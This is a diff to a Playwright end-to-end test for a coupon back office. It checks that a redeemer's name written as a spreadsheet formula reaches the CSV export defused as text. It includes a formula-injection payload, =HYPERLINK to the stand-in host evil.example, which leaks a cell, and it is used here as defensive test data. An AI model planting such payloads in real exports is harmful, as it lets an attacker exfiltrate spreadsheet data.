@@ -1,6 +1,7 @@
 import { readFileSync } from 'node:fs';
 import AxeBuilder from '@axe-core/playwright';
 import { type APIRequestContext, expect, type Page, test } from '@playwright/test';
+import { createActiveUser } from './helpers/accounts.ts';
 import { BackofficeLoginPage } from './pages/BackofficeLoginPage.ts';
 
 /**
@@ -10,11 +11,15 @@ import { BackofficeLoginPage } from './pages/BackofficeLoginPage.ts';
 const PRODUCER = { email: 'producer@platea.test', password: 'Producer.2026' };
 const VIEWER = { email: 'viewer@platea.test', password: 'Viewer.2026' };
 const PRODUCT = 'La vida es sueño: función para centros educativos';
+/** A name that a spreadsheet would run: it must reach the CSV defused. */
+const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Ver")';
 
 test('an organizer generates 10 codes for a private product, sees who redeemed one, and downloads them', async ({
   page,
   request,
 }) => {
+  // It also signs a new account up and activates it (the redeemer named like a formula).
+  test.setTimeout(120_000);
   const login = new BackofficeLoginPage(page);
   await login.goto('account');
   await login.signIn(PRODUCER.email, PRODUCER.password);
@@ -68,11 +73,33 @@ test('an organizer generates 10 codes for a private product, sees who redeemed o
     expect(serious.map((v) => `${v.id}: ${v.nodes.map((n) => n.target).join(' ')}`)).toEqual([]);
   });
 
+  let second = '';
+  await test.step('a viewer named like a spreadsheet formula redeems another code', async () => {
+    second = (await page.locator('tbody tr').nth(1).locator('td').first().innerText()).trim();
+    expect(second).not.toBe(code);
+    const attacker = { email: `formula-${Date.now()}@platea.test`, password: 'Formula.2026', name: FORMULA };
+    await createActiveUser(request, attacker);
+    const login = await request.post('/api/auth/login', {
+      data: { email: attacker.email, password: attacker.password },
+    });
+    const { token } = (await login.json()) as { token: string };
+    const redeemed = await request.post('/api/coupons/redeem', {
+      headers: { authorization: `Bearer ${token}` },
+      data: { code: second },
+    });
+    expect(redeemed.status(), await redeemed.text()).toBe(200);
+    await page.reload();
+    await expect(page.getByRole('row', { name: new RegExp(second) })).toContainText(
+      `Canjeado por ${FORMULA}`,
+    );
+  });
+
   const download = page.waitForEvent('download');
   await page.getByRole('button', { name: 'Exportar' }).click();
-  const lines = readFileSync(await (await download).path(), 'utf8')
-    .trim()
-    .split(/\r?\n/);
+  const text = readFileSync(await (await download).path(), 'utf8');
+  // A BOM first, so spreadsheet apps read the accents as UTF-8.
+  expect(text.startsWith('\uFEFF')).toBe(true);
+  const lines = text.slice(1).trim().split(/\r?\n/);
   expect(lines[0]).toBe(
     'code,kind,product,discountPercent,redeemedCount,quantity,redeemed,validUntil,redeemedBy,redeemedByEmail,redeemedAt',
   );
@@ -81,6 +108,10 @@ test('an organizer generates 10 codes for a private product, sees who redeemed o
   const redeemedLine = lines.find((line) => line.startsWith(`${code},`));
   expect(redeemedLine).toMatch(/,Vera Viewer,viewer@platea\.test,\d{4}-\d{2}-\d{2}T/);
   expect(lines.filter((line) => line.includes('viewer@platea.test'))).toHaveLength(1);
+  // The formula is written as text (a leading apostrophe), so no spreadsheet runs it.
+  const formulaLine = lines.find((line) => line.startsWith(`${second},`));
+  expect(formulaLine).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Ver"")",formula-`);
+  for (const line of lines) expect(line).not.toMatch(/(^|,)"?[=+@-]/);
 });
 
 /** A product of the demo organizer's approved channel, made through the API with a title of its own. */
